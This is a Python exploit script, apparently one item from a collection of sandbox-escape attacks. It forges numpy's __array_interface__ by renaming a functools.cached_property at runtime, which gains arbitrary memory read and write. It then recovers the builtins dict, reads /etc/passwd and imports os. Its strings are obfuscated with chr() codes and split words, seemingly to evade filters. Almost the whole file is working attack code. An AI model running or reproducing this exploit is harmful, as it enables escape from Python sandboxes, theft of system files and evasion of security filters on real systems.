# source: functools.cached_property docs (public attrname, set by __set_name__) + numpy __array_interface__ protocol (read on the instance, as numpy.lib.stride_tricks.DummyArray does)
# family: descriptor public attribute -> runtime-named instance attribute: cached_property.attrname rewritten after class creation makes __get__ store into instance.__dict__[runtime name]; numpy then trusts the forged __array_interface__
# goal: arbitrary memory read/write -> builtins dict (func_builtins) -> open() reads /etc/passwd, __import__ -> os
import functools
import numpy as np

u = chr(95) * 2
NAME = u + "array" + chr(95) + "interface" + u
WHERE = [0]


class View:
    @functools.cached_property
    def spec(self):
        return {"data": (WHERE[0], False), "shape": (1,), "typestr": "<u8", "version": 3}


View.spec.attrname = NAME


def mem(addr):
    WHERE[0] = addr
    v = View()
    v.spec
    return np.asarray(v)


def rd(addr):
    return int(mem(addr)[0])


def wr(addr, val):
    mem(addr)[0] = val


def f():
    return 0


p = rd(id(f) + 24)
holder = [None]
items = rd(id(holder) + 24)
wr(p, rd(p) + 1)
wr(items, p)
b = holder[0]
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
